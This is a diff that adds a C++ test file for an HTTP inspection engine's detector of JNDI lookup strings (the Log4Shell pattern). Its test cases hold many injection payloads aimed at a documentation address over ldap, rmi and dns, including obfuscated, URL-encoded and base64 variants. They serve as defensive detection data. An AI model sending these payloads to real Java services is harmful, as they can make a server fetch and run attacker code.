@@ -1,0 +1,90 @@
+#include <string>
+
+#include <doctest/doctest.h>
+
+#include "base/generated/anomaly_codes.h"
+#include "base/generated/events/anomaly.h"
+#include "dpi/http/lookup.h"
+#include "dpi/parser_mangle.h"
+
+namespace thymus::test {
+namespace {
+
+using dpi::AppId;
+using dpi::Transport;
+using dpi::http::has_jndi_credentials;
+using dpi::http::has_jndi_lookup;
+
+size_t lookups_in(const std::string& request) {
+  ParserRun run(AppId::kHttp, Transport::kTcp, 40000, 80);
+  run.feed({request.begin(), request.end()});
+  run.end();
+  size_t n = 0;
+  for (const Fields& anomaly : run.log().of(event::kAnomaly)) {
+    n += anomaly.number(event::anomaly::kCode) == anomaly_code::kHttpJndiLookup;
+  }
+  return n;
+}
+
+}  // namespace
+
+TEST_CASE("http lookup: JNDI, plain and made of other lookups") {
+  for (const char* text : {
+           "${jndi:ldap://203.0.113.7/a}",
+           "x=${JNDI:rmi://203.0.113.7/a}",
+           "${${lower:j}${upper:n}di:ldap://203.0.113.7}",
+           "${${lower:${lower:jndi}}:ldap://203.0.113.7}",
+           "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.7}",
+           "${j${env:NOTHING:-}ndi:dns://203.0.113.7}",
+           "${${: : :::-j}ndi:ldap://203.0.113.7}",
+           "${date:${jndi:ldap://203.0.113.7}}",
+           "/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%7D",
+           "/?q=%24{%6a%6e%64%69:ldap://203.0.113.7}",
+           "${a}${b}${jndi:ldap://203.0.113.7}",
+       }) {
+    INFO(text);
+    CHECK(has_jndi_lookup(text));
+  }
+}
+
+TEST_CASE("http lookup: other expressions are none") {
+  for (const char* text : {"", "$", "${", "${}", "$jndi:ldap", "{jndi:ldap}", "${name}",
+                           "${a ? b : c}", "jndi:ldap://203.0.113.7", "%24", "%2", "100%",
+                           "${env:HOME}", "$${x}", "${lower:jndi}", "${x}jndi:ldap"}) {
+    INFO(text);
+    CHECK_FALSE(has_jndi_lookup(text));
+  }
+}
+
+TEST_CASE("http lookup: depth, length and number are bounded") {
+  std::string deep;
+  for (int i = 0; i < 100; ++i) deep += "${a:";
+  CHECK_FALSE(has_jndi_lookup(deep));
+  CHECK_FALSE(has_jndi_lookup("${" + std::string(600, 'x') + "jndi:"));
+  std::string many;
+  for (int i = 0; i < 20'000; ++i) many += "${";
+  CHECK_FALSE(has_jndi_lookup(many));
+}
+
+TEST_CASE("http lookup: user and password") {
+  CHECK(has_jndi_credentials("Basic dToke2puZGk6bGRhcDovLzIwMy4wLjExMy43fQ=="));
+  CHECK_FALSE(has_jndi_credentials("Basic dXNlcjpwYXNzd29yZA=="));
+  CHECK_FALSE(has_jndi_credentials("Bearer dToke2puZGk6bGRhcDovLzIwMy4wLjExMy43fQ=="));
+  CHECK_FALSE(has_jndi_credentials(""));
+}
+
+TEST_CASE("http lookup: a request is told of, once for its head and for each piece of content") {
+  const std::string lookup = "${jndi:ldap://203.0.113.7/a}";
+  CHECK(lookups_in("GET / HTTP/1.1\r\nHost: a\r\nX-Any: " + lookup + "\r\n\r\n") == 1);
+  CHECK(lookups_in("GET /?q=" + lookup + " HTTP/1.1\r\nHost: a\r\nA: " + lookup + "\r\n\r\n") == 1);
+  CHECK(lookups_in("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 30\r\n\r\nq=" + lookup) == 1);
+  CHECK(lookups_in("GET /${name} HTTP/1.1\r\nHost: a\r\n\r\n") == 0);
+}
+
+TEST_CASE("http lookup: survives damage") {
+  const std::string sample = "${j${env:a:-}n%24%7B::-d%7di:${lower:x}}";
+  mangle(std::vector<uint8_t>(sample.begin(), sample.end()),
+         [](Bytes bytes) { (void)has_jndi_lookup(as_text(bytes)); });
+}
+
+}  // namespace thymus::test
